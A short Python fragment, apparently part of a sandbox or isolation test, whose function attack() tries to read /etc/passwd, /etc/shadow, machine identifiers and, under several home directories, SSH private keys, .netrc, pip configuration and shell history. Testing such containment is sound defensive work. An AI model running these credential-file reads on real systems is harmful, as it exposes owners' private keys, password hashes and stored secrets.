import os
import sys

HOMES = {"/root", os.path.expanduser("~"), sys.prefix, os.path.dirname(PROJECT)}
PRIVATE = (".ssh/id_rsa", ".ssh/id_ed25519", ".config/pip/pip.conf", ".netrc", ".bash_history",
           "pyvenv.cfg")


def first(path):
    with open(path, "rb") as file:
        return path, file.read(40)


def attack():
    each(*(lambda p=path: first(p) for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname",
                                                "/etc/machine-id", "/etc/pip.conf")))
    each(*(lambda p=f"{home}/{path}": first(p) for home in HOMES for path in PRIVATE))
